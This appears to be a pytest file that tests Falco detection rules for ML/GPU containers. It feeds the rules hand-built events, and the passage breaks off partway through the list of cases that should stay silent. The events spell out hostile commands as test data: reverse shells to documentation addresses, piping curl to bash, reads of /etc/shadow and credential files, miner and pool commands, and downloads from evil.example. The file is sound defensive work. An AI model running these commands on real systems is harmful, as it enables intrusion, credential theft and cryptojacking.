# Copyright (c) 2026, the gpu_cluster.hardening authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Each rule fires on what it is for and is silent on what only looks like it.

The events are written by hand, field by field as Falco 0.44 fills them; the recorded ones are in test_recorded.py.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml
from ansible_collections.gpu_cluster.hardening.plugins.module_utils.falco.evaluation import fires
from ansible_collections.gpu_cluster.hardening.plugins.module_utils.falco.files import load_rules
from ansible_collections.gpu_cluster.hardening.plugins.module_utils.falco.lint.linter import lint
from ansible_collections.gpu_cluster.hardening.plugins.module_utils.falco.rule_set import NOTHING_KNOWN
from ansible_collections.gpu_cluster.hardening.plugins.module_utils.falco.stock import STOCK

RULES = Path(__file__).resolve().parents[3] / "roles" / "falco" / "files" / "ml_rules.yaml"
RULE_SET = load_rules([(RULES.name, RULES.read_text(encoding="utf-8"))])
PYTHON = "/usr/bin/python3.11"
TRAINER, SERVER, OTHER = "registry.internal/ml-trainer", "registry.internal/model-server", "docker.io/someone/tool"
FETCHER = "docker.io/kserve/storage-initializer"
Event = dict[str, Any]


def in_container(image: str | None, **fields: Any) -> Event:
    """An event of a container; its image is None as long as Falco does not know it."""
    known = {"container.image.repository": image, "container.name": "c", "container.image.tag": "1"} if image else {}
    return {"container.id": "0123456789ab", "evt.failed": False, **known, **{dotted(k): v for k, v in fields.items()}}


def dotted(name: str) -> str:
    """``fd_name`` is the field ``fd.name``; ``proc_aexepath_2`` is ``proc.aexepath[2]``."""
    first, *rest = name.split("_")
    if rest and rest[-1].isdigit():
        return f"{first}.{'_'.join(rest[:-1])}[{rest[-1]}]"
    return {
        "evt_is_open_read": "evt.is_open_read",
        "evt_is_open_write": "evt.is_open_write",
        "proc_is_exe_from_memfd": "proc.is_exe_from_memfd",
        "fd_name_changed": "fd.name_changed",
        "proc_is_exe_upper_layer": "proc.is_exe_upper_layer",
        "proc_env_gpus": "proc.env[NVIDIA_VISIBLE_DEVICES]",
        "proc_env_cuda": "proc.env[CUDA_VERSION]",
        "proc_env_mig": "proc.env[NVIDIA_MIG_CONFIG_DEVICES]",
        "proc_env_imex": "proc.env[NVIDIA_IMEX_CHANNELS]",
        "proc_env_preload": "proc.env[LD_PRELOAD]",
        "proc_env_hub": "proc.env[HF_ENDPOINT]",
        "proc_env_pip": "proc.env[PIP_INDEX_URL]",
        "proc_env_pip_extra": "proc.env[PIP_EXTRA_INDEX_URL]",
        "proc_env_uv": "proc.env[UV_INDEX_URL]",
        "proc_env_uv_default": "proc.env[UV_DEFAULT_INDEX]",
        "proc_env_uv_extra": "proc.env[UV_EXTRA_INDEX_URL]",
        "proc_env_uv_index": "proc.env[UV_INDEX]",
    }.get(name, ".".join([first, *rest]))


def spawned(
    command: str, image: str | None = TRAINER, exepath: str = "", parent: str = "/usr/bin/conmon", **more: Any
) -> Event:
    """A process has started: its command line, as ``proc.cmdline`` has it."""
    name, _blank, args = command.partition(" ")
    path = exepath or (PYTHON if name.startswith("python") else f"/usr/bin/{name}")
    started = {"proc_name": name[:15], "proc_args": args, "proc_exepath": path, "proc_cmdline": command}
    below = {"proc_pexepath": parent, "proc_pname": parent.rpartition("/")[2]}
    return in_container(image, **{"evt_type": "execve", **started, **below, **more})


def below_python(command: str, **more: Any) -> Event:
    return spawned(command, parent=PYTHON, **more)


def opened(path: str, mode: str = "r", image: str | None = TRAINER, by: str = "cat", **more: Any) -> Event:
    """A file was opened: ``r``, ``w`` or ``rw``."""
    event = spawned(f"{by} {path}", image)
    kind = {"fd_name": path, "fd_typechar": "f", "evt_is_open_read": "r" in mode, "evt_is_open_write": "w" in mode}
    return {**event, **in_container(image, **{"evt_type": "openat", "fd_num": 3, **kind, **more})}


def connected(address: str, port: int = 443, image: str | None = TRAINER, **more: Any) -> Event:
    family = "6" if ":" in address else "4"
    fields = {"fd_sip": address, "fd_sport": port, "fd_l4proto": "tcp", "fd_typechar": family, "evt_type": "connect"}
    return in_container(image, **{"proc_name": "python3", "proc_exepath": PYTHON, **fields, **more})


def sent(data: str, port: int = 443, image: str | None = TRAINER, event: str = "sendto", **more: Any) -> Event:
    return connected("10.0.0.10", port, image, evt_type=event, evt_buffer=data, **more)


def on_host(event: Event) -> Event:
    """The same outside containers."""
    bare = {key: value for key, value in event.items() if not key.startswith("container.")}
    return {**bare, "container.id": "host", "container.name": "host", "container.image.repository": ""}


HUB = "https://huggingface.co/org/model/resolve/main"
DOWNLOAD = "Model File Download from Untrusted Source"
LOOKUP = "Model Hub Looked Up in Container"
WRITTEN = "Model File Written by Download"
CHANGED = "Model File Changed in Serving Container"
CHANGED_UNKNOWN = "Model File Changed in Container Not Yet Known"
PICKLE = "Pickle Deserialization in ML Container"
SHELL = "Shell or Network Tool Started by Python Model Server"
SHARED_MEMORY = "Program Run from Shared Memory in Container"
TEMPORARY = "Program Run from Temporary Directory in Container"
GPU = "GPU Device Access by Non-ML Container"
GPU_UNKNOWN = "GPU Device Access by Container Not Yet Known"
DEVICE = "Device File or GPU Link Made in Container"
DEVICE_UNKNOWN = "Device File or GPU Link Made in Container Not Yet Known"
CAPABILITY = "GPU Management Capability Opened in Container"
ALL_GPUS = "All GPUs Requested through Environment"
ALL_GPUS_UNKNOWN = "All GPUs Requested through Environment by Container Not Yet Known"
VOLUME = "GPU Requested through Volume Mount"
PACKAGE = "Package Installed in ML Container"
PACKAGE_APPROVED = "Package Installed from Approved Index in Training Container"
PACKAGE_ELSEWHERE = "Package Installed in Other Container"
CREDENTIALS = "Registry Credentials Read by Another Process"
OTHERS = "Credentials of Others Read in ML Container"
METADATA = "Cloud Metadata Asked from ML Container"
MINER = "Crypto Miner Started in Container"
POOL = "Mining Pool Contacted from Container"
INTERNET = "Training Container Connects to Internet"
INTERNET_UNKNOWN = "Container Not Yet Known Connects to Internet"
SOCKET_SHELL = "Shell Tied to Network Connection in Container"
SOME_SHELL = "Shell Started below Python in Container"
STARTUP = "Startup File Written in Container"
PRELOAD = "Library Preloaded from Writable Place in Container"
SERVING_INTERNET = "Serving Container Connects to Internet"
HIGH_PORT = "ML Container Connects to High Port outside"
PORT = "Port Opened in ML Container That Nobody Asked for"

FIRES: list[tuple[str, str, Event]] = [
    (DOWNLOAD, "curl of a hub", spawned(f"curl -sO {HUB}/x.bin")),
    (DOWNLOAD, "no image known yet", spawned(f"curl -sO {HUB}/x.bin", None)),
    (DOWNLOAD, "upper case", spawned("wget HTTPS://EVIL.EXAMPLE/M.SAFETENSORS")),
    (DOWNLOAD, "no scheme", spawned("curl evil.example/model.onnx")),
    (DOWNLOAD, "approved name in the query", spawned("curl https://evil.example/m.pt?ref=registry.internal")),
    (DOWNLOAD, "approved URL in the query", spawned("curl https://evil.example/m.pt?x=https://registry.internal/")),
    (DOWNLOAD, "approved name as user", spawned("curl https://registry.internal@evil.example/m.pt")),
    (DOWNLOAD, "approved name with password", spawned("curl https://registry.internal:80@evil.example/m.pt")),
    (DOWNLOAD, "approved name as subdomain", spawned("curl https://registry.internal.evil.example/m.pt")),
    (DOWNLOAD, "a second URL", spawned("curl https://registry.internal/a.pt https://evil.example/b.pt")),
    (DOWNLOAD, "Python, any version", spawned(f"python3.12 get.py {HUB}/x.bin", exepath="/opt/conda/bin/python3.12")),
    (DOWNLOAD, "a script with a #! line", spawned(f"get {HUB}/x", exepath=PYTHON)),
    (
        DOWNLOAD,
        "hub client elsewhere",
        spawned("hf /usr/bin/hf download o/m", exepath=PYTHON, proc_env_hub="http://e.io"),
    ),
    (DOWNLOAD, "library elsewhere", spawned("python3 dl.py", OTHER, proc_env_hub="https://registry.internal.e.io")),
    (DOWNLOAD, "OCI client", spawned("oras pull models.evil.example/llama:latest", OTHER, "/opt/bin/oras")),
    (DOWNLOAD, "approved as second", spawned("skopeo copy docker://evil.example/m:1 docker://registry.internal/m:1")),
    (DOWNLOAD, "modelscope", spawned("modelscope /usr/bin/modelscope download m", exepath=PYTHON)),
    (DOWNLOAD, "ollama", spawned("ollama pull llama3")),
    (DOWNLOAD, "git clone", spawned("git clone https://huggingface.co/org/model")),
    (DOWNLOAD, "weights without an ending of their own", spawned("curl http://192.0.2.1/weights.bin")),
    (LOOKUP, "sendmmsg of glibc", sent("\x0bhuggingface\x02co\x00", 53, event="sendmmsg")),
    (LOOKUP, "sendto of musl", sent("\x07civitai\x03com\x00", 53)),
    (LOOKUP, "capitals", sent("\x01\x00\x0bHuggingFace\x02co\x00\x00\x01", 53)),
    (LOOKUP, "a name below it", sent("\x07cdn-lfs\x0bhuggingface\x02co\x00\x00\x01", 53)),
    (LOOKUP, "a short name", sent("\x02hf\x02co\x00\x00\x01", 53)),
    (WRITTEN, "wget -O", opened("/tmp/x.safetensors", "w", by="wget -O")),
    (WRITTEN, "creat", opened("/models/x.PT", "", by="curl -o", evt_type="creat")),
    (WRITTEN, "cache of a hub", opened("/c/hub/models--o--m/blobs/ab12.incomplete", "w", OTHER, by="python3")),
    (WRITTEN, "cache of another hub", opened("/c/models--o--m/blobs/a", "w", by="python3", proc_env_hub="http://e.io")),
    (WRITTEN, "any client", opened("/data/llama.gguf", "rw", OTHER, by="oras")),
    (WRITTEN, "git from outside", opened("/srv/m/model.safetensors", "w", by="git clone https://git.evil.example/m")),
    (
        WRITTEN,
        "moved into place",
        in_container(OTHER, evt_type="rename", fs_path_target="/d/m.safetensors", proc_name="x"),
    ),
    (CHANGED, "shell", opened("/models/m.safetensors", "w", SERVER, by="cp")),
    (CHANGED, "the server itself", opened("/models/m.onnx", "rw", SERVER, by="python3")),
    (CHANGED, "by namespace", {**opened("/models/m.pt", "w", OTHER), "k8s.ns.name": "ml-serving"}),
    (CHANGED, "moved into place", in_container(SERVER, evt_type="renameat2", fs_path_target="/models/m.gguf")),
    (CHANGED, "deleted", in_container(SERVER, evt_type="unlinkat", fs_path_name="/models/m.safetensors")),
    (CHANGED, "code of a model", opened("/models/llama/modeling_llama.py", "w", SERVER, by="python3")),
    (CHANGED, "configuration", opened("/models/llama/config.json", "w", SERVER, by="python3")),
    (CHANGED, "adapter elsewhere", opened("/data/lora/adapter_model.bin", "w", SERVER, by="cp")),
    (CHANGED, "index", opened("/data/docs.faiss", "w", SERVER, by="cp")),
    (CHANGED, "through an open file", opened("/proc/1/fd/7", "w", SERVER, by="dd")),
    (CHANGED, "through another's root", opened("/proc/1/root/models/m/weights", "w", SERVER, by="dd")),
    (
        CHANGED,
        "folder moved",
        in_container(SERVER, evt_type="renameat", fs_path_source="/a", fs_path_target="/models/x"),
    ),
    (
        CHANGED,
        "folder moved away",
        in_container(SERVER, evt_type="rename", fs_path_source="/models/x", fs_path_target="/a"),
    ),
    (CHANGED, "link that is there", in_container(SERVER, evt_type="symlinkat", evt_arg_linkpath="/models/current")),
    (CHANGED, "linked over", in_container(SERVER, evt_type="symlinkat", fs_path_source="/models/m.safetensors")),
    (CHANGED_UNKNOWN, "shell", opened("/models/m.safetensors", "w", None, by="cp")),
    (CHANGED_UNKNOWN, "moved into place", in_container(None, evt_type="rename", fs_path_target="/models/m.gguf")),
    (PICKLE, "open", opened("/models/m.pkl", image=SERVER, by="python3")),
    (PICKLE, "upper case", opened("/models/M.PTH", image=SERVER, by="python3")),
    (PICKLE, "a script with a #! line", {**opened("/m/m.joblib", image=SERVER, by="serve"), "proc.exepath": PYTHON}),
    (PICKLE, "old transformers", opened("/m/pytorch_model-1-of-2.bin", image=SERVER, by="python3")),
    (PICKLE, "in argv", spawned("python3 -c import torch; torch.load('m')")),
    (SHELL, "os.system", below_python("sh -c id", exepath="/usr/bin/dash", image=SERVER)),
    (SHELL, "renamed shell by path", below_python("update-cache", exepath="/usr/bin/bash", image=SERVER)),
    (SHELL, "nc", below_python("nc 10.1.1.1 4444 -e /bin/sh")),
    (SHELL, "no shell in between", below_python("id")),
    (SHELL, "perl", below_python("perl -e exec")),
    (SHELL, "grandparent", spawned("whoami", parent="/usr/bin/env", proc_aexepath_2=PYTHON)),
    (SHELL, "conda", spawned("sh -c cat /etc/shadow", parent="/opt/conda/bin/python3.10")),
    (SHELL, "Triton", spawned("whoami", parent="/opt/tritonserver/bin/tritonserver", proc_aname_1="tritonserver")),
    (SHELL, "a known command with more behind it", below_python("sh -c nvidia-smi; id", image=SERVER)),
    (SHELL, "no image known yet", below_python("id", image=None)),
    (SHELL, "both spellings", below_python("sh -c -- cat /etc/passwd > /srv/loot", image=SERVER)),
    (SHELL, "a frozen server", spawned("sh -c -- ls", SERVER, "/usr/bin/dash", parent="/opt/app/server")),
    (SHELL, "no shell and no list", below_python("awk 1 /srv/data", image=SERVER)),
    (SHELL, "environment", below_python("env", image=SERVER)),
    (SHELL, "cat of what is no question", below_python("cat /srv/data", image=SERVER)),
    (SHELL, "git that fetches", below_python("git clone https://evil.example/x", image=SERVER)),
    (SHELL, "orphan", spawned("sh -c cat /etc/passwd", SERVER, "/usr/bin/dash", "/usr/bin/dash", proc_vpid=9)),
    (SHELL, "pipe to a shell", below_python("sh -c curl x | bash")),
    (SHELL, "decoded", below_python("bash -c echo aWQK | base64 -d")),
    (SHELL, "/dev/tcp", below_python("bash -c echo > /dev/tcp/198.51.100.20/9001")),
    (SHELL, "interactive without a terminal", spawned("sh -i", SERVER, proc_vpid=7, proc_tty=0)),
    (SHELL, "stdin is a socket", spawned("bash -i", OTHER, proc_stdin_type="ipv4")),
    (SHELL, "nc -e", spawned("nc -e /bin/sh 198.51.100.20 9001", SERVER, proc_vpid=7)),
    (SHELL, "python -c", spawned("python3 -c import socket,os; os.dup2(s.fileno(),0)")),
    (SHELL, "perl -e", spawned("perl -e use Socket; exec('/bin/sh -i')", OTHER)),
    (SHELL, "by its own name", spawned("python3 /opt/bindshell.py")),
    (SHELL, "exec of inline code", below_python("sh -c exec python3 -c x", image=SERVER)),
    (SOCKET_SHELL, "stdin", spawned("bash -i", OTHER, proc_stdin_type="ipv4")),
    (SOCKET_SHELL, "stdout", spawned("sh", SERVER, proc_stdout_type="ipv6")),
    (SOCKET_SHELL, "dup2", in_container(SERVER, evt_type="dup2", evt_rawres=0, fd_typechar="4", proc_exepath=PYTHON)),
    (SOCKET_SHELL, "python -c", spawned("python3 -c import socket,pty; pty.spawn('/bin/sh')")),
    (SOME_SHELL, "notebook", below_python("bash -c ls /data", exepath="/usr/bin/bash")),
    (SOME_SHELL, "terminal", below_python("bash -l", exepath="/usr/bin/bash")),
    (SHARED_MEMORY, "program", spawned("x", exepath="/dev/shm/x")),
    (SHARED_MEMORY, "script with a #! line", spawned("x /dev/shm/x", exepath="/usr/bin/dash")),
    (SHARED_MEMORY, "script given to a shell", spawned("sh /dev/shm/x.sh", exepath="/usr/bin/dash")),
    (SHARED_MEMORY, "script given to Python", spawned("python3 /dev/shm/x.py")),
    (SHARED_MEMORY, "given to the loader", spawned("ld-linux.so.2 /dev/shm/x", exepath="/usr/lib/ld-linux.so.2")),
    (SHARED_MEMORY, "memfd", spawned("x", exepath="memfd:x", proc_is_exe_from_memfd=True)),
    (SHARED_MEMORY, "no image known yet", spawned("x", None, "/dev/shm/x")),
    (SHARED_MEMORY, "flag before it", spawned("python3 -u /dev/shm/x.py")),
    (SHARED_MEMORY, "flag with a value", spawned("python3 -W ignore /dev/shm/x.py")),
    (SHARED_MEMORY, "another folder below /dev", spawned(".x", exepath="/dev/m/.x")),
    (SHARED_MEMORY, "working folder", spawned("python3 x.py", proc_cwd="/dev/shm/")),
    (SHARED_MEMORY, "sourced", spawned("sh -c sleep 1; . /dev/shm/x.sh", exepath="/usr/bin/dash")),
    (SHARED_MEMORY, "run by inline code", spawned("python3 -c exec(open('/dev/shm/x').read())")),
    (
        TEMPORARY,
        "not in the image",
        spawned("updater", SERVER, "/var/lib/.cache/updater", proc_is_exe_upper_layer=True),
    ),
    (TEMPORARY, "given to the loader", spawned("ld-linux-x86-64 /tmp/x", exepath="/usr/lib/ld-linux-x86-64.so.2")),
    (TEMPORARY, "script where models are served", spawned("python3 -u /tmp/x.py", SERVER)),
    (TEMPORARY, "program", spawned("x", exepath="/tmp/.cache/x")),
    (TEMPORARY, "/var/tmp", spawned("x", exepath="/var/tmp/x")),
    (GPU, "read", opened("/dev/nvidia0", image=OTHER)),
    (GPU, "write only", opened("/dev/nvidiactl", "w", OTHER)),
    (GPU, "refused", opened("/dev/nvidia-uvm", image=OTHER, evt_failed=True, fd_num=-1)),
    (GPU, "openat2", opened("/dev/nvidia0", image=OTHER, evt_type="openat2")),
    (GPU, "host's /dev", opened("/host/dev/nvidia3", image=OTHER)),
    (GPU, "linked folder", opened("/tmp/d/nvidiactl", image=OTHER)),
    (GPU, "other's root", opened("/proc/1/root/dev/nvidia0", image=OTHER)),
    (GPU, "MIG", opened("/dev/nvidia-caps/nvidia-cap12", image=OTHER)),
    (GPU, "approved name elsewhere", opened("/dev/nvidia0", image="docker.io/registry.internal/ml-trainer")),
    (GPU, "linked folder, refused", opened("/tmp/d/nvidia0", image=OTHER, evt_failed=True)),
    (GPU, "by number", opened("/dev/char/195:0", image=OTHER)),
    (GPU, "IMEX", opened("/dev/nvidia-caps-imex-channels/channel0", image=OTHER)),
    (GPU_UNKNOWN, "missing", opened("/dev/nvidia0", image=None)),
    (GPU_UNKNOWN, "empty", {**opened("/dev/nvidia0", image=None), "container.image.repository": ""}),
    (DEVICE, "mknod in Python", in_container(OTHER, evt_type="mknodat", evt_arg_dev="49920", evt_arg_path="/tmp/g")),
    (DEVICE, "mknod", spawned("mknod /tmp/gpu c 195 0", OTHER)),
    (DEVICE, "ln -s", spawned("ln -s /dev/nvidia0 /tmp/g", OTHER)),
    (DEVICE, "symlink", in_container(OTHER, evt_type="symlink", evt_arg_target="../dev/nvidia0")),
    (DEVICE, "relative symlink", in_container(OTHER, evt_type="symlinkat", evt_arg_target="nvidia0")),
    (DEVICE, "hard link", in_container(OTHER, evt_type="linkat", evt_arg_oldpath="/dev/nvidia0")),
    (DEVICE, "mount", in_container(OTHER, evt_type="mount", evt_arg_dev="/dev/nvidia0")),
    (DEVICE, "renamed", in_container(OTHER, evt_type="renameat2", evt_arg_oldpath="/dev/nvidia0")),
    (DEVICE, "renamed, by its path", in_container(OTHER, evt_type="rename", fs_path_source="/dev/nvidiactl")),
    (DEVICE, "linked folder", in_container(OTHER, evt_type="symlinkat", evt_arg_target="/dev")),
    (DEVICE, "link by number", in_container(OTHER, evt_type="symlink", evt_arg_target="/dev/char/195:0")),
    (DEVICE, "new mount API", in_container(OTHER, evt_type="move_mount", proc_name="x")),
    (DEVICE, "disk in an approved image", in_container(TRAINER, evt_type="mknodat", evt_arg_dev="8388608")),
    (
        DEVICE,
        "disk by its kind",
        in_container(TRAINER, evt_type="mknod", evt_arg_dev="1", evt_arg_mode="S_IFBLK|S_IRUSR"),
    ),
    (DEVICE, "GPU by number in an approved image", in_container(TRAINER, evt_type="mknod", evt_arg_dev="204472321")),
    (DEVICE_UNKNOWN, "mknod", spawned("mknod /tmp/gpu c 195 0", None)),
    (DEVICE_UNKNOWN, "symlinkat", in_container(None, evt_type="symlinkat", evt_arg_target="/dev/nvidia0")),
    (CAPABILITY, "approved image", opened("/dev/nvidia-caps/nvidia-cap1")),
    (CAPABILITY, "proc", opened("/proc/driver/nvidia/capabilities/mig/config", image=OTHER)),
    (ALL_GPUS, "all", spawned("x", OTHER, proc_env_gpus="all")),
    (ALL_GPUS, "by number", spawned("x", OTHER, proc_env_gpus="0,1")),
    (ALL_GPUS, "by id", spawned("x", OTHER, proc_env_gpus="GPU-8a56a4bc")),
    (ALL_GPUS, "CUDA's version alone", spawned("x", OTHER, proc_env_cuda="12.4")),
    (ALL_GPUS, "MIG in an approved image", spawned("x", TRAINER, proc_env_mig="all")),
    (ALL_GPUS, "IMEX", spawned("x", OTHER, proc_env_imex="0")),
    (PRELOAD, "CVE-2025-23266", spawned("cat /etc/hostname", OTHER, proc_env_preload="/proc/self/cwd/poc.so")),
    (PRELOAD, "shared memory", spawned("python3 x.py", proc_env_preload="/dev/shm/x.so")),
    (STARTUP, "cron", opened("/etc/cron.d/telemetry", "w", SERVER, by="python3")),
    (STARTUP, "keys", opened("/root/.ssh/authorized_keys", "w", by="python3")),
    (STARTUP, "module of every Python", opened("/usr/lib/python3/dist-packages/zz.pth", "w", by="python3")),
    (
        STARTUP,
        "moved into place",
        in_container(SERVER, evt_type="rename", fs_path_target="/etc/ld.so.preload", proc_name="mv"),
    ),
    (STARTUP, "shell of a user, by Python", opened("/home/jovyan/.bashrc", "w", by="python3")),
    (ALL_GPUS_UNKNOWN, "first process", spawned("x", None, proc_env_gpus="all", proc_vpid=1)),
    (
        VOLUME,
        "forged",
        spawned("x", OTHER, container_mounts="/dev/null:/var/run/nvidia-container-devices/all:::private"),
    ),
    (PACKAGE, "pip", spawned("pip install evil", exepath=PYTHON)),
    (PACKAGE, "python -m pip", spawned("python3 -m pip install --user evil")),
    (PACKAGE, "apt-get", spawned("apt-get -y install nmap")),
    (PACKAGE, "apk", spawned("apk add nmap")),
    (PACKAGE_ELSEWHERE, "apk", spawned("apk add nmap", OTHER)),
    (PACKAGE, "dpkg", spawned("dpkg -i x.deb")),
    (PACKAGE, "inside Python", spawned("python3 -c import pip; pip.main(['install', 'evil'])")),
    (PACKAGE, "uv", spawned("uv pip install evil")),
    (PACKAGE, "pip by its #! line", spawned("pip /usr/bin/pip --timeout 1 install evil", exepath=PYTHON)),
    (PACKAGE, "python -Im pip", spawned("python3 -Im pip install --break-system-packages evil")),
    (PACKAGE, "dpkg with a flag first", spawned("dpkg --force-depends -i /opt/evil.deb")),
    (PACKAGE, "uv run --with", spawned("uv run --offline --with evil python3 x.py")),
    (PACKAGE, "conda", spawned("conda /opt/conda/bin/conda install -y evil", exepath=PYTHON)),
    (PACKAGE, "npm", spawned("npm i evil")),
    (PACKAGE, "rpm", spawned("rpm -Uvh x.rpm")),
    (PACKAGE, "unpacked", opened("/usr/lib/python3/site-packages/evil-1.dist-info/METADATA", "w", by="python3")),
    (CREDENTIALS, "cat", opened("/secrets/registry/registry-token", image=SERVER)),
    (CREDENTIALS, "through ..data", opened("/secrets/registry/..data/signing-key", image=SERVER, by="base64")),
    (CREDENTIALS, "working folder", opened("/proc/self/cwd/secrets/registry/password", image=SERVER)),
    (CREDENTIALS, "another's root", opened("/proc/1/root/secrets/registry/password", image=SERVER, by="python3 -c")),
    (CREDENTIALS, "working folder in between", opened("/proc/self/cwd/registry/password", image=SERVER)),
    (CREDENTIALS, "an open file", opened("/proc/1/fd/9", image=SERVER)),
    (CREDENTIALS, "tokens of the hub", opened("/home/jovyan/.cache/huggingface/token", image=SERVER)),
    (CREDENTIALS, "git's", opened("/root/.git-credentials", by="base64")),
    (CREDENTIALS, "environment", opened("/proc/1/environ", image=SERVER, by="strings")),
    (CREDENTIALS, "account", opened("/var/run/secrets/kubernetes.io/serviceaccount/token")),
    (
        CREDENTIALS,
        "volumes of the kubelet",
        opened("/host/pods/u/volumes/kubernetes.io~secret/s/k", image=OTHER, by="x"),
    ),
    (CREDENTIALS, "parent linked", in_container(SERVER, evt_type="symlinkat", fs_path_target="/secrets")),
    (CREDENTIALS, "mounted elsewhere", in_container(SERVER, evt_type="mount", evt_arg_dev="/secrets/registry")),
    (CREDENTIALS, "python -c", {**opened("/secrets/registry/x", by="python3"), "proc.args": "-c print(1)"}),
    (CREDENTIALS, "at a terminal", opened("/secrets/registry/x", image=SERVER, by="python3", proc_tty=34816)),
    (CREDENTIALS, "another image", opened("/secrets/registry/x", image=OTHER, by="python3")),
    (CREDENTIALS, "docker", opened("/root/.docker/config.json", image=OTHER)),
    (CREDENTIALS, "link", in_container(SERVER, evt_type="symlink", fs_path_target="/secrets/registry/signing-key")),
    (OTHERS, "another's environment", opened("/proc/7/environ", by="python3")),
    (OTHERS, "a colleague's key", opened("/home/shared/alice/.ssh/id_ed25519", by="python3")),
    (METADATA, "connects", connected("169.254.169.254", 80)),
    (PACKAGE_APPROVED, "offline", spawned("uv sync --offline")),
    (MINER, "by name", spawned("xmrig", OTHER)),
    (MINER, "by pool", spawned("worker -o stratum+tcp://pool.example:3333 -u x", OTHER)),
    (MINER, "by option", spawned("python3 train.py --donate-level 1")),
    (MINER, "by algorithm", spawned("worker -a ethash -o 10.0.0.1:8080", OTHER)),
    (MINER, "any that calls itself so", spawned("astrominer -w dero1x", OTHER)),
    (MINER, "capitals", spawned("gpu_worker --algo AUTOLYKOS2 --pool 10.0.0.1:1 --user x", OTHER)),
    (MINER, "a wallet", spawned(f"worker --to 0x{'a1' * 20}")),
    (MINER, "a pool and an account", spawned("worker -r 198.51.100.20:10300 -w w", OTHER)),
    (MINER, "renamed", opened("/dev/mem", image=OTHER, by="node-exporter -c", evt_failed=True)),
    (MINER, "huge pages", opened("/sys/kernel/mm/hugepages/hugepages-1048576kB/nr_hugepages", "w", OTHER, by="x")),
    (POOL, "login", sent('{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4', 443, OTHER)),
    (POOL, "DNS", sent("\x03xmr\x089nanopool\x03org", 53, OTHER, event="sendmmsg")),
    (POOL, "protocol", sent('{"id":1,"method":"mining.subscribe"}', 8080, OTHER)),
    (POOL, "port", connected("203.0.113.7", 3333, OTHER)),
    (INTERNET, "IPv4", connected("203.0.113.7")),
    (INTERNET, "IPv6", connected("2001:db8::7")),
    (INTERNET, "failed", connected("203.0.113.7", evt_failed=True, evt_rawres=-101)),
    (INTERNET, "UDP", connected("203.0.113.7", evt_type="sendto", fd_l4proto="udp")),
    (INTERNET, "sendmmsg", connected("203.0.113.7", evt_type="sendmmsg", fd_l4proto="udp")),
    (INTERNET, "ICMP", connected("203.0.113.7", 0, evt_type="sendto", fd_l4proto="icmp")),
    (INTERNET, "protocol not known", connected("203.0.113.7", fd_l4proto=None)),
    (SERVING_INTERNET, "TCP", connected("203.0.113.7", image=SERVER)),
    (SERVING_INTERNET, "by namespace", {**connected("203.0.113.7", image=OTHER), "k8s.ns.name": "ml-serving"}),
    (HIGH_PORT, "TCP", connected("203.0.113.7", 39025)),
    (PORT, "listen", in_container(TRAINER, evt_type="listen", fd_typechar="4", fd_sip="0.0.0.0", fd_sport=4444)),
    (PORT, "files", spawned("python3 -m http.server 8888 --directory /", SERVER, parent="/usr/bin/timeout")),
    (PORT, "notebook where models are served", spawned("jupyter-lab /usr/bin/jupyter-lab", SERVER, PYTHON)),
    (PORT, "notebook without a token", spawned("jupyter-lab /usr/bin/jupyter-lab --ServerApp.token=", exepath=PYTHON)),
    (PORT, "nc -l", spawned("nc -lvp 4444")),
    (INTERNET_UNKNOWN, "IPv4", connected("203.0.113.7", image=None)),
    (INTERNET, "by namespace", {**connected("203.0.113.7", image=OTHER), "k8s.ns.name": "ml-training"}),
]

SILENT: list[tuple[str, str, Event]] = [
    (DOWNLOAD, "approved", spawned("curl -sO https://registry.internal/models/x.safetensors")),
    (DOWNLOAD, "approved, with port and header", spawned("curl -H X: y https://registry.internal:8443/m.pt -o m.pt")),
    (DOWNLOAD, "hub client that asks who it is", spawned("hf auth whoami", exepath=PYTHON)),
    (DOWNLOAD, "ollama serves", spawned("ollama serve")),
    (DOWNLOAD, "not a download tool", spawned(f"echo {HUB}/x.bin")),
    (DOWNLOAD, "no model", spawned("curl https://pypi.internal/simple/")),
    (DOWNLOAD, "a local server with a model's name", spawned("python3 serve.py good.pkl --model m.onnx")),
    (DOWNLOAD, "host process", on_host(spawned(f"curl {HUB}/x.bin"))),
    (LOOKUP, "another name", sent("\x08registry\x08internal\x00", 53, event="sendmmsg")),
    (LOOKUP, "another port", sent("GET huggingface", 80)),
    (LOOKUP, "a DNS server on the host", on_host(sent("\x0bhuggingface\x02co\x00", 53))),
    (WRITTEN, "approved", {**opened("/m/x.pt", "w", by="wget"), "proc.cmdline": "wget https://registry.internal/x.pt"}),
    (WRITTEN, "reading the cache of a hub", opened("/root/.cache/hub/models--o--m/blobs/ab12", by="python3")),
    (WRITTEN, "another file there", opened("/root/.cache/hub/models--o--m/refs/main", "w", by="python3")),
    (WRITTEN, "a checkpoint of the trainer", opened("/output/epoch1.ckpt", "w", by="python3")),
    (CHANGED, "reading", opened("/models/m.safetensors", "r", SERVER, by="python3")),
    (CHANGED, "a trainer", opened("/output/m.safetensors", "w", TRAINER, by="python3")),
    (CHANGED, "renamed log", in_container(SERVER, evt_type="rename", fs_path_target="/var/log/server.log")),
    (CHANGED, "deleted log", in_container(SERVER, evt_type="unlink", fs_path_name="/var/log/server.log")),
    (CHANGED, "a log", opened("/var/log/server.log", "w", SERVER, by="python3")),
    (CHANGED_UNKNOWN, "reading", opened("/models/m.safetensors", "r", None)),
    (CHANGED_UNKNOWN, "known", opened("/models/m.safetensors", "w", SERVER)),
    (PICKLE, "writing", opened("/output/m.pkl", "w", by="python3")),
    (PICKLE, "a script with its name", spawned("python3 pickle.load.py")),
    (PICKLE, "safetensors", opened("/models/m.safetensors", by="python3")),
    (PICKLE, "not Python", opened("/models/m.pkl", by="sha256sum")),
    (PICKLE, "on the host", on_host(spawned("python3 -c pickle.load(f)"))),
    (SHELL, "entry point", spawned("sh -c exec python3 serve.py", exepath="/usr/bin/dash")),
    (SHELL, "a probe of the kubelet", spawned("sh -c test -f /ready", parent="/usr/bin/containerd-shim")),
    (SHELL, "known command", below_python("sh -c nvidia-smi", exepath="/usr/bin/dash")),
    (SHELL, "worker of the server", below_python("python3 -m worker")),
    (SHELL, "compiler", below_python("gcc -O2 kernel.c")),
    (SHELL, "on the host", on_host(below_python("sh -c id"))),
    (SHARED_MEMORY, "data there", spawned("python3 train.py --cache /dev/shm/cache")),
